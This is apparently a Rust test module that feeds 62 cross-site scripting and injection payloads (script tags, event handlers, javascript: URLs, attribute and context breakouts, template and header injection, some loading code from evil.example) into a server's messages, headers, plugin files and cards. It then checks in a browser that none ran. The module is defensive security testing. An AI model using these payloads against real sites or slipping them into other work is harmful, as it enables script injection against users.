//! Texts that would run, load or break out if a page took them for markup.
//!
//! Here is also a server that was sent them, and a search of a page for what came of them.

use serde_json::{Value, json};

use crate::{
    admin,
    operate::{give_up, place},
    support::{Browser, Client, Place, Program, Request, until},
};

/// What would run sets this property of the window.
pub(super) const PAYLOADS: [&str; 62] = [
    // Elements.
    "<script>window.hurt=1</script>",
    "</script><script>window.hurt=1</script>",
    "<ScRiPt >window.hurt=1</ScRiPt >",
    "<scr<script>ipt>window.hurt=1</scr</script>ipt>",
    "<script src=data:,window.hurt=1></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hurt=1>",
    "<img src=\"javascript:window.hurt=1\">",
    "<img/src/onerror=window.hurt=1>",
    "<svg/onload=window.hurt=1>",
    "<svg><script>window.hurt=1</script></svg>",
    "<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=window.hurt=1>#x\"/></svg>",
    "<math><mtext></p><style><img src=x onerror=window.hurt=1></style></mtext></math>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'>",
    "<iframe src=javascript:parent.hurt=1>",
    "<object data=javascript:window.hurt=1>",
    "<embed src=javascript:window.hurt=1>",
    "<video><source onerror=window.hurt=1></video>",
    "<audio src=x onerror=window.hurt=1>",
    "<details open ontoggle=window.hurt=1>x</details>",
    "<marquee onstart=window.hurt=1>x</marquee>",
    "<body onload=window.hurt=1>",
    "<input autofocus onfocus=window.hurt=1>",
    "<select autofocus onfocus=window.hurt=1>",
    "<form action=javascript:window.hurt=1><button id=hurt>x</button></form>",
    "<button form=hurt formaction=javascript:window.hurt=1>x</button>",
    "<a href=\"javascript:window.hurt=1\" id=hurt>x</a><base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.hurt=1\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>window.hurt=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hurt=1>\">",
    "<!--><img src=x onerror=window.hurt=1>-->",
    "<![CDATA[<img src=x onerror=window.hurt=1>]]>",
    "<xmp><img src=x onerror=window.hurt=1></xmp>",
    // Ends of what it stands in.
    "\"><script>window.hurt=1</script>",
    "'><img src=x onerror=window.hurt=1>",
    "\" onmouseover=window.hurt=1 x=\"",
    "' autofocus onfocus=window.hurt=1 x='",
    "` onfocus=window.hurt=1 autofocus x=`",
    "\" style=\"background:url(javascript:window.hurt=1)\" x=\"",
    "</title><script>window.hurt=1</script>",
    "</textarea><script>window.hurt=1</script>",
    "</style><script>window.hurt=1</script>",
    "</code></pre></main><script>window.hurt=1</script>",
    "\"};window.hurt=1;//",
    "';window.hurt=1;'",
    "\\\";window.hurt=1;//",
    "\u{2028}window.hurt=1\u{2029}",
    "\r\n\r\n<script>window.hurt=1</script>",
    // Addresses, style sheets, templates, Markdown.
    "javascript:window.hurt=1",
    "  jAvAsCrIpT:window.hurt=1",
    "java\tscript:window.hurt=1",
    "data:text/html,<script>window.hurt=1</script>",
    "//evil.example/%0d%0aSet-Cookie:x=1",
    "<style>@import '//evil.example'; * { background: url(//evil.example) }</style>",
    "{{constructor.constructor('window.hurt=1')()}}${window.hurt=1}#{window.hurt=1}<%= window.hurt=1 %>",
    "[x](javascript:window.hurt=1) ![x](x\" onerror=\"window.hurt=1) <javascript:window.hurt=1>",
    "<font color='red\" onmouseover=window.hurt=1'>x</font><at id='\"><img src=x onerror=window.hurt=1>'></at>",
    "&lt;script&gt;window.hurt=1&lt;/script&gt;&#60;script&#62;",
    // What is turned into markup by others.
    "\u{ff1c}script\u{ff1e}window.hurt=1\u{ff1c}/script\u{ff1e}\u{202e}\u{feff}",
    "+ADw-script+AD4-window.hurt=1+ADw-/script+AD4-",
];

/// A place with a plugin that describes itself in markup.
pub(super) fn hostile_place() -> Place {
    let toml = format!(
        "[config]\n\"x' onfocus=window.hurt=1 autofocus x='\" = {:?}\n",
        PAYLOADS[6]
    );
    place()
        .plugin("moody")
        .plugin("hostile")
        .file("hostile.toml", toml.as_bytes())
        .file("<img src=x onerror=window.hurt=1>.wasm", b"no component")
        .file("broken.wasm", b"no component")
        .set("LARK_APP_NAME", PAYLOADS[0])
        .set("OTEL_SERVICE_NAME", PAYLOADS[35])
}

/// A server to which hostile things were sent in every way that there is.
pub(super) async fn hurt(place: &Place) -> (Program, Client) {
    let mut program = place.run(&[]);
    let client = program.serving().await;
    let console = admin::admin(&mut program, place).await;
    for text in PAYLOADS {
        client.send(&place.lark.message_in(text, text, text, text)).await;
        client
            .send(&place.lark.event(text, json!({"key": text, text: {text: [text]}})))
            .await;
        client.click(json!({"key": text, text: "of a key"})).await;
        // What is no character of a header is left out by whoever sends it.
        let line: String = text.chars().filter(|symbol| !symbol.is_control()).collect();
        let forged = Request::post("/callback", text)
            .header("x-request-id", &line)
            .header("user-agent", &line);
        client.send(&forged).await;
        let state = super::encoded(text);
        client
            .send(&Request::get(&format!("/callback?code={state}&state={state}")))
            .await;
        let named = Request::post("/api/v1/prune", "").header("x-operator", &line);
        console.send(&named).await;
    }
    for card in cards() {
        let answer = client.click(json!({"reply": card})).await;
        assert!(answer.json()["card"].is_object(), "it is drawn: {answer:?}");
    }
    let toast = json!({"toast": {"type": "info", "content": PAYLOADS.concat()}});
    client.click(json!({"reply": toast})).await;
    give_up(place, &client).await;
    until("the errors of the plugin", async || {
        let groups = console
            .send(&Request::get("/api/v1/dead/groups?plugin=hostile"))
            .await
            .json();
        (groups["groups"].as_array().is_some_and(|groups| groups.len() > 20)).then_some(())
    })
    .await;
    let job = json!({"action": "retry_dead", "filter": {"plugin": "hostile"}}).to_string();
    assert_eq!(console.send(&Request::post("/api/v1/jobs", job)).await.status, 200);
    (program, console)
}

/// Cards whose texts, names and addresses are hostile.
fn cards() -> Vec<Value> {
    let of_texts = PAYLOADS.iter().flat_map(|text| {
        [
            json!({"tag": "markdown", "content": text}),
            json!({"tag": "markdown", "content": format!("[{text}]({text})")}),
        ]
    });
    let of_buttons = PAYLOADS.iter().enumerate().map(|(number, text)| {
        json!({
            "tag": "button", "name": format!("b{number}"), "text": {"tag": "plain_text", "content": text},
            "behaviors": [{"type": "open_url", "default_url": text}, {"type": "callback", "value": {"v": text}}],
        })
    });
    let card = |elements: Vec<Value>, title: &str| {
        json!({
            "card": {"type": "raw", "data": {
                "schema": "2.0",
                "header": {"title": {"tag": "plain_text", "content": title}, "template": "red"},
                "body": {"elements": elements},
            }},
        })
    };
    vec![
        card(of_texts.collect(), PAYLOADS[0]),
        card(of_buttons.collect(), PAYLOADS[1]),
    ]
}

/// What is on a page that came from outside, in words.
const FOREIGN: &str = r#"
    (root) => {
        const found = [];
        for (const element of root.querySelectorAll("*")) {
            const tag = element.localName;
            const ours = (url) => new URL(url, location.href).href.startsWith(location.origin + "/console/assets/");
            if (["iframe", "base", "object", "embed", "style", "template", "math", "marquee", "audio", "video"].includes(tag)
                || element.id === "hurt"
                || (tag === "script" && !(element.src && ours(element.getAttribute("src"))))
                || (tag === "link" && !ours(element.getAttribute("href")))
                || (tag === "img" && !ours(element.getAttribute("src")))
                || (tag === "meta" && element.httpEquiv)) found.push(element.outerHTML.slice(0, 200));
            for (const { name, value } of element.attributes) {
                const isScript = name.startsWith("on") || name === "style" || name === "srcdoc";
                const isAddress = ["href", "src", "action", "formaction", "xlink:href", "data"].includes(name);
                if (isScript || (isAddress && !/^https?:$/.test(new URL(value, location.href).protocol)))
                    found.push(`${tag} ${name}=${value}`.slice(0, 200));
            }
            if (["form", "button"].includes(tag)) {
                const to = element.getAttribute("action") || element.getAttribute("formaction") || "";
                if (new URL(to, location.href).origin !== location.origin) found.push(`${tag} to ${to}`);
            }
        }
        return found;
    }
"#;

/// Errors of scripts, what the policy forbids, markup that came from outside.
pub(super) async fn check(browser: &Browser, path: &str) {
    let found = browser
        .run(&format!(
            "return {{hurt: window.hurt ?? null, foreign: ({FOREIGN})(document)}}"
        ))
        .await;
    assert_eq!(found, json!({"hurt": null, "foreign": []}), "{path}");
    let complaints = browser.complaints().await;
    let is_status = |text: &String| {
        text.contains("the server responded with a status of 4") && (path.contains("nothing") || path.contains('%'))
    };
    let complaints: Vec<_> = complaints.into_iter().filter(|text| !is_status(text)).collect();
    assert!(complaints.is_empty(), "{path}: {complaints:#?}");
}

/// Pages at these addresses of the server, as a browser reads them, without showing them: which have something foreign in them.
pub(super) async fn check_unseen(browser: &Browser, addresses: &[String]) {
    let found = browser
        .run_to_end(&format!(
            "async () => {{
                const look = async (address) => {{
                    const answer = await fetch(address);
                    // A script is told in plain text what went wrong.
                    if (!answer.headers.get('content-type').startsWith('text/html')) return [address, []];
                    return [address, ({FOREIGN})(new DOMParser().parseFromString(await answer.text(), 'text/html'))];
                }};
                const all = await Promise.all({}.map(look));
                return all.filter(([, foreign]) => foreign.length);
            }}",
            json!(addresses)
        ))
        .await;
    assert_eq!(found, json!([]));
}
